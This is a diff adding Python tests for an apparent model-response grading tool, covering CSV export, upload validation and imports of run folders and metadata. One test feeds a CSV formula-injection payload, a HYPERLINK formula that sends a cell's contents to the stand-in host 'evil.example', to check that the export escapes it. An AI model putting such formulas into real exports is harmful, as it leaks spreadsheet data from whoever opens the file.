@@ -297,7 +297,11 @@ def test_csv_export_holds_every_score_and_grade(book_db, tmp_path):
         "preference": "",
         "comment": "ok",
         "created_at": "",
+        "response_version": "1",
+        "response_current": "1",
+        "response": store.response_rows(db, models=["model 2 response"])[0]["text"],
     }
+    assert rows[4]["response"] == rows[4]["response_version"] == ""  # a pairwise grade refers to no one version
     assert sum(r["kind"] == "judge" for r in rows) == 300
 
 
@@ -343,3 +347,114 @@ def test_cli_exit_codes_and_messages(shared_dir, db_path, tmp_path, capsys):
     out = tmp_path / "out.json"
     assert cli.main(["export", "--db", str(db_path), "--format", "json", "--out", str(out)]) == 0
     assert f"wrote 100 entries to {out}" in capsys.readouterr().out
+
+
+def test_csv_export_neutralises_spreadsheet_formulas_and_keeps_numbers(db_path, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
+    data = tmp_path / "formulas.json"
+    data.write_text(json.dumps([{"instruction": formula, "input": "", "@model": "-1 is the answer"}]))
+    db = store.open_db(db_path)
+    importing.import_path(db, data)
+    response = store.response_rows(db)[0]["response_id"]
+    store.add_grade(db, response, "+reviewer", 2, "@SUM(1+1)")
+    store.add_grade(db, response, "tab", 3, "\tTAB")
+    store.add_grade(db, response, "cr", 4, "\rCR")
+    store.add_grade(db, response, "plain", 5, "a=b, fine")
+    (tmp_path / "scores.json").write_text(
+        json.dumps([{"item_id": store.dataset_items(db, "formulas")[0]["id"], "score": -3.0, "rationale": "-bad"}])
+    )
+    importing.import_scores(db, tmp_path / "scores.json", judge="signed", response_key="@model", score_range=(-5, 5))
+    out = tmp_path / "out.csv"
+    importing.export(db, "csv", out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    judge, *grades = rows
+    assert (judge["instruction"], judge["model"], judge["response"]) == ("'" + formula, "'@model", "'-1 is the answer")
+    assert (judge["score"], judge["comment"]) == ("-3", "'-bad")  # a negative number is a number, not a formula
+    assert sorted((g["rater"], g["comment"], g["score"]) for g in grades) == [
+        ("'+reviewer", "'@SUM(1+1)", "2"),
+        ("cr", "'\rCR", "4"),
+        ("plain", "a=b, fine", "5"),
+        ("tab", "'\tTAB", "3"),
+    ]
+    assert importing.csv_cell(-3.0) == -3 and importing.csv_cell(0.5) == 0.5 and importing.csv_cell(None) is None
+
+
+def _two_uploads(tmp_path, second: str):
+    good = tmp_path / "good.json"
+    good.write_text(json.dumps([{"instruction": "Say hi.", "input": "", "output": "Hi.", "m": "Hello."}]))
+    bad = tmp_path / "bad.json"
+    bad.write_text(second)
+    return [good, bad]
+
+
+@pytest.mark.parametrize(
+    ("second", "message"),
+    [
+        ('[{"instruction": "x", "m": 3}]', r"bad\.json entry 0: 'm' \(a model's response\) must be a string"),
+        ("[{", r"bad\.json: malformed JSON at line 1"),
+    ],
+)
+def test_uploads_import_all_or_nothing_and_the_error_names_the_bad_file(
+    db_path, tmp_path, db_snapshot, second, message
+):
+    db = store.open_db(db_path)
+    earlier = tmp_path / "earlier.json"
+    earlier.write_text(json.dumps([{"instruction": "Say bye.", "input": "", "m": "Bye."}]))
+    importing.import_path(db, earlier)
+    before = db_snapshot(db_path)
+    with pytest.raises(UserError, match=message):
+        importing.import_files(db, _two_uploads(tmp_path, second), kind="data")
+    assert db_snapshot(db_path) == before
+    assert not db.conn.in_transaction
+
+
+def test_uploads_of_data_a_run_folder_and_scores(shared_dir, db_path, tmp_path, db_snapshot):
+    db = store.open_db(db_path)
+    good, _ = _two_uploads(tmp_path, "[]")
+    data = shared_dir / "datasets" / "instruction-data-with-response.json"
+    run_dir = tmp_path / "run-a"
+    _write_run(run_dir, "sft-124m", data, [3.0, 2.5])
+    uploads = [run_dir / "config.json", run_dir / "metrics.jsonl", run_dir / "split.json", data, good]
+    summaries = importing.import_files(db, uploads, kind="data")
+    # data files first, so that the run's split labels find the items they label
+    assert [(s.kind, s.dataset) for s in summaries] == [
+        ("responses", data.stem),
+        ("responses", "good"),
+        ("run folder", data.stem),
+    ]
+    assert summaries[2].split_labels == 110 and store.training_metrics(db, "sft-124m")[-1]["train_loss"] == 2.5
+
+    scores = tmp_path / "scores.json"
+    scores.write_text(json.dumps([50]))
+    wrong = tmp_path / "wrong.json"
+    wrong.write_text(json.dumps([500]))
+    before = db_snapshot(db_path)
+    with pytest.raises(UserError, match=r"wrong\.json entry 0 .*outside judge 'j'"):
+        importing.import_files(db, [scores, wrong], kind="scores", judge="j", response_key="m", dataset="good")
+    assert db_snapshot(db_path) == before
+    with pytest.raises(UserError, match=r"scores\.json: unknown model \(response key\) 'nobody'"):
+        importing.import_files(db, [scores], kind="scores", judge="j", response_key="nobody", dataset="good")
+    with pytest.raises(UserError, match="judge's name"):
+        importing.import_files(db, [scores], kind="scores", judge="", response_key="m")
+    (summary,) = importing.import_files(db, [scores], kind="scores", judge="j", response_key="m", dataset="good")
+    assert summary.scores == 1
+    assert db_snapshot(db_path) != before
+
+
+def test_uploads_keep_generation_metadata_sidecars(shared_dir, db_path, tmp_path):
+    data = shared_dir / "datasets" / "instruction-data-with-response.json"
+    entries = json.loads(data.read_text())[100:]
+    output = tmp_path / "responses.json"
+    output.write_text(json.dumps([{**e, "model_response": f"generated {i}"} for i, e in enumerate(entries)]))
+    meta = tmp_path / "responses.meta.json"
+    meta.write_text(
+        json.dumps({"run": "/runs/sft", "name": "sft", "response_key": "model_response", "data": str(data)})
+    )
+    db = store.open_db(db_path)
+    (summary,) = importing.import_files(db, [meta, output], kind="data")
+    assert (summary.kind, summary.dataset, summary.models) == ("generation output", data.stem, ["sft"])
+    with pytest.raises(UserError, match=r"\.meta\.json files"):
+        importing.import_files(db, [meta], kind="data")
+    with pytest.raises(UserError, match="unknown upload kind"):
+        importing.import_files(db, [output], kind="pictures")
